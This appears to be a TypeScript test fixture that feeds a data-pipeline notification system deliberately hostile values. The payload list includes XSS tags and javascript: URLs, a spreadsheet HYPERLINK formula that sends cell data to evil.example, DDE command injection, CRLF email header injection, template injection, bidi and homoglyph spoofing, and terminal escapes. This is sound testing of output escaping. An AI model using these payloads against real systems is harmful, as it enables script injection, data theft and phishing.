import type { RunStory } from "../../../lakehouse/notify/story.ts";
import { drop, planOf, published, report, rule, story } from "./make.ts";

const day = "2001-01-12";
const plan = planOf("flights");

/** Everything that data can try: markup, formulas, line breaks, bidi, look-alikes, templates, links, terminals. */
export const VALUES = [
  `<img src=x onerror=alert(1)>`,
  `</td></tr></table><script>alert(1)</script>`,
  `" onmouseover="alert(1)`,
  `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `a\r\nBcc: everybody@example.org\r\n\r\nbody`,
  `{{#each users}}{{password}}{{/each}}`,
  `\u202egpj.exe\u202c\u2066hidden\u2069`,
  `раураl.com and аррӏе and ｐａｙ and 𝐩𝐚𝐲`,
  `https://evil.example/login javascript:alert(1) www.evil.com evil.zip mailto:x`,
  `\x1b[31mred\x1b[0m\x00\x07\u200b\u2028\u{e0041}\ud800`,
  `Z̷̢̛̛̮͇͓̗̬̲̫͔̞̤̮̈́̅̃a̶l̷g̸o̴`,
  `-- `,
  `.`,
  `漢字テスト🎉 ${"長".repeat(70)}`,
] as const;

const name = `flights/dt=${day}/<b>x</b>\r\nBcc: a@b.example\u202e${"long".repeat(40)}'";--.parquet`;

export const hostile: RunStory = story({
  plan: {
    ...plan,
    contract: {
      ...plan.contract,
      title: `<script>alert("title")</script>\r\nX-Evil: 1`,
      owner: `<img src=x onerror=alert(2)>`,
      runbookUrl: "javascript:alert(3)",
    },
  },
  now: "2001-01-12T05:03:00.000Z",
  drops: [
    drop(
      report({
        dataset: "flights",
        name,
        day,
        verdict: "ready with warnings",
        rows: { in: 1_000, good: 900, quarantined: 100, duplicates: 0 },
        reasons: [
          {
            code: "COLUMNS_ADDED",
            message: `the contract does not know <svg onload=alert(4)> ("${VALUES[0]}")`,
            cure: "add them\r\nBcc: x@y.example",
          },
        ],
        columns: {
          unknown: [{ name: `x"><script>\u202e`, type: "VARCHAR" }],
          renamed: [],
          missing: ["<b>"],
          retyped: [],
        },
        rules: VALUES.slice(0, 5).map((_, index) =>
          rule(`origin.${"<i>".repeat(index)}pattern${index}`, {
            description: `origin matches ${VALUES[index]}`,
            businessImpact: VALUES[index + 5] ?? null,
            failed: 20 - index,
            outcome: "quarantined",
            samples: VALUES.slice(index * 3, index * 3 + 3).map((value, row) => ({
              row,
              path: `origin${VALUES[row]}`,
              value,
            })),
            causes: VALUES.slice(index * 3, index * 3 + 3).map((value, row) => ({ value, rows: 19 - row * 8 - index })),
          }),
        ),
      }),
      { decidedBy: `<a href="https://evil.example">me</a>` },
    ),
  ],
  publications: [published(12, 900)],
});
